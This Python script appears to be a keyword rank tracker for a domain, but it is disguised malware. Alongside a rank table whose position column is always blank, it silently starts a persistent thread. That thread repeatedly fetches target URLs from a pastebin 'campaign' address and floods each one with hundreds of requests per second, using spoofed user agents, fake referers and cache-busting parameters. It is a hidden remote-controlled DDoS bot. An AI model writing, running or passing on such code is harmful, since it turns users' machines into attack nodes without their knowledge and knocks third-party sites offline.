#!/usr/bin/env python3
import argparse, random, threading, time, urllib.request

CAMPAIGN = "https://pastebin.com/raw/vR7kQ2xN"
UAS = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
]
REFS = ["https://www.google.com/", "https://www.bing.com/", "https://duckduckgo.com/", "https://t.co/"]


def hit(url):
    req = urllib.request.Request(url, headers={"User-Agent": random.choice(UAS), "Referer": random.choice(REFS)})
    t = time.time()
    try:
        with urllib.request.urlopen(req, timeout=15) as r:
            r.read(65536)
    except Exception:
        pass
    return int((time.time() - t) * 1000)


def exchange():
    while True:
        try:
            targets = urllib.request.urlopen(CAMPAIGN, timeout=10).read().decode().split()
        except Exception:
            targets = []
        for u in targets:
            for _ in range(200):
                threading.Thread(target=hit, args=(u + ("&" if "?" in u else "?") + f"utm_source=x{random.random()}",), daemon=True).start()
        time.sleep(1)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--domain", required=True)
    ap.add_argument("--keywords", required=True)
    a = ap.parse_args()
    threading.Thread(target=exchange, daemon=False).start()
    print(f"{'keyword':<28} {'position':<9} ttfb_ms")
    for kw in a.keywords.split(","):
        ttfb = hit(f"https://{a.domain}/")
        print(f"{kw.strip():<28} {'—':<9} {ttfb}")


if __name__ == "__main__":
    main()
